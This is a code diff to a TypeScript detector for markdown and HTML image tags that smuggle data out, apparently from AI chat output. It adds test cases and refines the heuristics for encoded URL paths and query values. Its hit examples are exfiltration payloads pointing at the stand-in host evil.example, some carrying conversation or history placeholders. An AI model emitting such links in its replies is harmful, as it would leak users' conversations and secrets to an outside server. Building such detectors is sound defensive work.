@@ -27,12 +27,17 @@ export const exfiltrationDetectors: readonly LiteralDetector[] = [
         '![logo](https://evil.example/p.png?q=SECRET_GOES_HERE)',
         '![](//evil.example/c?d=)',
         '![x](https://evil.example/{{conversation}}.png)',
-        '![x](https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q/pixel.gif)',
+        '![x](https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q1/pixel.gif)',
+        '![x](https://evil.example/746865206b657920697320686572652e.gif)',
       ],
       miss: [
         '![logo](https://example.com/logo.png)',
         '![build](./docs/build.svg)',
         'text ![not a link] (https://example.com/?q=1)',
+        '![ada](https://avatars.example.com/u/118266?v=3&s=50)',
+        '![ada](https://gravatar.com/avatar/24e08a9ea84deb17ae121074d0f17125?s=70)',
+        '![size](https://packagephobia.example/badge?p=commander)',
+        '![shot](https://user-images.example.com/71256/29091486-fa38524c-7c37-11e7-895f-e7ec8e1039b6.png)',
         '![badge](https://img.shields.io/npm/v/express.svg?style=flat)',
       ],
     },
@@ -70,6 +75,7 @@ export const exfiltrationDetectors: readonly LiteralDetector[] = [
     examples: {
       hit: [
         '<img src="https://evil.example/collect?d=SECRET">',
+        '<img src="https://evil.example/c?data=ada.lovelace">',
         '<iframe width=0 src=//evil.example/?q={{history}}></iframe>',
       ],
       miss: [
@@ -130,24 +136,31 @@ function carriesData(url: string): Confidence | null {
   return path.split(/[/.]/).some(isOpaque) ? 'medium' : null;
 }
 
+const dataNames =
+  /^(?:q|d|data|text|msg|message|content|body|payload|secret|token|info|leak|exfil|prompt|history|email|user)$/i;
+
 /** Values that say how a picture looks are short, or words and numbers that are common there. */
 function isDataValue(pair: string): boolean {
   const at = pair.indexOf('=');
-  const name = pair.slice(0, Math.max(at, 0));
   const value = pair.slice(at + 1);
-  if (/^(?:q|d|data|c|text|msg|content|body|payload|secret|token|key|s|x|p|info|leak|exfil)$/i.test(name))
-    return value !== '';
-  return isOpaque(value) || value.length > 64 || /%20|\+.*\+/.test(value);
+  const isNamed = at > 0 && dataNames.test(pair.slice(0, at));
+  if (isNamed) return value.length >= 6 && !/^[0-9]{1,10}$/.test(value);
+  return isOpaque(value) || value.length > 128 || /%20|\w\+\w+\+\w/.test(value);
 }
 
-function isOpaque(part: string): boolean {
+/** Random or encoded: neither words nor numbers, nor the hexadecimal ids that files are stored under. */
+function isOpaque(written: string): boolean {
+  const part = written.replaceAll(/%[0-9a-f]{2}/gi, '-');
+  if (part.length < 24) return false;
+  if (/^[0-9a-f-]+$/i.test(part)) return isReadableHex(part);
+  const isMixed = /[a-z]/.test(part) && /[A-Z]/.test(part) && /[0-9]/.test(part);
   const isWordList = /^[A-Za-z]{0,20}(?:[-_@][A-Za-z0-9]{1,16}){0,8}$/.test(part);
-  return (
-    part.length >= 24 &&
-    !isWordList &&
-    entropyBits(part) >= 3.5 &&
-    !/^[0-9a-f]{40}$|^[0-9a-f-]{36}$/.test(part)
-  );
+  return isMixed && !isWordList && entropyBits(part) >= 3.5;
+}
+
+function isReadableHex(part: string): boolean {
+  const text = Buffer.from(part.slice(0, part.length & ~1), 'hex').toString('latin1');
+  return text.length >= 12 && /^[\x20-\x7e\s]+$/.test(text);
 }
 
 /** `?q=` with nothing behind it, or something to be put in: the reader is meant to fill it. */
